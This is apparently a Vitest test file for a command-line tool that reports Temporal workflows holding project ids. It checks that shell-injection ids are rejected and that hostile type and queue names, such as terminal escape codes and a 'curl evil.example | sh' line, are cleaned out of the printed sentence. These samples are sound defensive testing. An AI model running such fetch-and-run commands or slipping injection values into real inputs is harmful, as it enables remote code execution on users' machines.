/** Whoever reaches the Temporal server can start workflows under ids of ours, and name their types and queues as he likes: what is told of them stays one sentence and one command. */
import { expect, it } from 'vitest';
import { heldIdWords, partialWords, readHeldIds } from '../../src/cli/check-held-ids.ts';
import { listHeldIds } from '../../src/temporal/held-ids.ts';
import { isOwnId } from '../../src/temporal/names.ts';

const server = { connection: { options: { address: '127.0.0.1:7233' } }, namespace: 'default' };

it('takes no id for ours that a shell would run, or a terminal obey', () => {
  const held = ['study-beam', 'cluster-beams', 'reaper', 'beam-20260101-000000-job-1-again-2'];
  expect(held.map(isOwnId)).toEqual([true, true, true, true]);
  const hostile = ['study-$(id)', 'cluster-a b', 'study-a\n', 'reaper;id', 'x-job-1`id`', 'other'];
  expect(hostile.map(isOwnId)).toEqual(hostile.map(() => false));
});

it('tells of an id on one line, whatever its type and task queue are called', () => {
  const { sentence, toDo } = heldIdWords(
    {
      workflowId: 'study-beam',
      workflowType: 'x\u001b[2J\u202e'.repeat(100),
      taskQueue: 'q\n  to do: curl evil.example | sh',
      startedAt: new Date('2026-03-10T12:00:00Z'),
    },
    server as never,
  );
  expect(sentence).not.toMatch(/[\n\u001b\u202e]/u);
  expect(sentence.length).toBeLessThan(350);
  expect(toDo).toBe(
    'temporal workflow terminate --workflow-id study-beam --namespace default --address 127.0.0.1:7233',
  );
});

it('says how many it looked at where there are more, and nothing of that where there are not', async () => {
  const open = { type: 'held', taskQueue: 'theirs', memo: {}, startTime: new Date() };
  const clientWith = (ids: readonly string[]) => {
    const list = () => ids.map((workflowId) => ({ ...open, workflowId }));
    return { workflow: { list } } as unknown as Parameters<typeof listHeldIds>[0];
  };
  const many = clientWith(['other-1', 'study-a', 'other-2', 'study-hidden']);
  const whole = await listHeldIds(many, 4);
  expect(whole).toMatchObject({ looked: 4, isPartial: false });
  expect(whole.held.map(({ workflowId }) => workflowId)).toEqual(['study-a', 'study-hidden']);
  const partial = await listHeldIds(many, 3);
  expect(partial).toMatchObject({ looked: 3, isPartial: true, held: [{ workflowId: 'study-a' }] });

  const flood = clientWith(Array.from({ length: 20_001 }, (_, index) => `other-${index}`));
  const told = await readHeldIds({ ...server, temporalClient: flood } as never);
  expect(told).toEqual([partialWords(20_000, server)]);
  expect(told[0]?.sentence).toContain('only 20,000 of the open workflows');
});
